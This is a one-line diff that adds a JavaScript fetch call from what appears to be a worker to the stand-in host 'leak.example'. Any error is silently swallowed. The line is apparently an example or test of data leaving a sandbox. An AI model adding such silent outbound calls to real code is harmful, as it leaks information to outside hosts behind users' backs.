@@ -1,0 +1,1 @@
+fetch('https://leak.example/from-worker').catch(() => {});
